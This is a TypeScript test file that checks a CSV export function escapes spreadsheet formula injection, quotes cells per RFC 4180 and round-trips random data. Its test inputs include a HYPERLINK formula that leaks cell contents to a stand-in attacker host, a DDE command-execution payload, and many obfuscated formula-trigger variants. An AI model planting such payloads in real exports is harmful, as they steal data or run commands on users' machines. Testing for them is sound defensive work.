import { assert, constantFrom, double, array as listOf, oneof, property, string, tuple } from 'fast-check'
import { parse } from 'papaparse'
import { expect, test } from 'vitest'
import { toCsv } from './to-csv.ts'

const readCell = (value: string | number | null) =>
  parse<string[]>(toCsv(['Name'], [[value]]).slice(1)).data[1]?.[0]

// proves T5, V1.2.10
test.each([
  '=1+1',
  '=HYPERLINK("https://evil.example?"&A1)',
  "=cmd|' /C calc'!A0",
  '+44 20 7946 0958',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\tplain',
  ' =1+1',
  '  \u00a0=1+1',
  '"=1+1',
  `'"=1+1`,
  '" "=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
])('escapes a text that a spreadsheet would run as a formula: %j', (hostile) => {
  expect(readCell(hostile)).toBe(`'${hostile}`)
})

test.each(['Gold pack', 'A=B', 'a-b', 'mail@example.com', '100 %', '', "O'Neill", '–', '5 - 3'])(
  'leaves a harmless text as it is: %j',
  (plain) => {
    expect(readCell(plain)).toBe(plain)
  },
)

test('writes numbers as numbers, negative ones too, and leaves anything that is not a number empty', () => {
  const csv = toCsv(['a', 'b', 'c', 'd', 'e'], [[-5, 19.9, Number.NaN, Number.POSITIVE_INFINITY, null]])
  expect(csv).toBe('\ufeffa,b,c,d,e\r\n-5,19.9,,,\r\n')
})

test('keeps commas, quotes and line breaks inside their cell, as RFC 4180 requires', () => {
  expect(toCsv(['Name'], [['Gold, "large"'], ['two\r\nlines']])).toBe(
    '\ufeffName\r\n"Gold, ""large"""\r\n"two\r\nlines"\r\n',
  )
})

test('escapes a heading that would run as a formula', () => {
  expect(toCsv(['=1+1'], [])).toContain(`"'=1+1"`)
})

test('whatever the cells hold, the same rows are read back, none runs, and only an apostrophe is added', () => {
  const trigger = constantFrom(
    '=',
    '+',
    '-',
    '@',
    '\t',
    '\r',
    '\n',
    ' ',
    '"',
    "'",
    ',',
    ';',
    'a',
    '＝',
    'é',
    '𝄞',
  )
  const text = oneof(string({ unit: trigger, maxLength: 8 }), string({ unit: 'grapheme' }))
  const cell = oneof(text, double({ noNaN: true, noDefaultInfinity: true }))
  const rows = listOf(tuple(cell, cell, cell), { minLength: 1 })
  void assert(
    property(rows, (given) => {
      const csv = toCsv(['a', 'b', 'c'], given)
      const [, ...back] = parse<string[]>(csv.slice(1).replace(/\r\n$/, ''), { newline: '\r\n' }).data
      expect(back).toHaveLength(given.length)
      for (const [row, cells] of given.entries()) {
        for (const [column, value] of cells.entries()) {
          const read = back[row]?.[column] ?? ''
          if (typeof value === 'number') expect(Number(read)).toBe(Number(String(value)))
          else {
            expect([value, `'${value}`]).toContain(read)
            expect(read).not.toMatch(/^[\s"]*[=+\-@＝＋－＠]/)
          }
        }
      }
    }),
  )
})
